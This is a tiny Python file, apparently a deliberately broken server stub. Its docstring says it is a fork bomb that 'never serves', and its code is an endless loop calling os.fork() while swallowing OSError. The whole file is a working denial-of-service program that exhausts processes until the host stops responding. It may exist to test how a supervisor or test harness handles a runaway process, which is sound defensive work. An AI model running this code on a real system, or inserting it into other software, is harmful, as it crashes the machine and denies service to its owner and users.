"""A fork bomb: it never serves, and forks until it is stopped."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
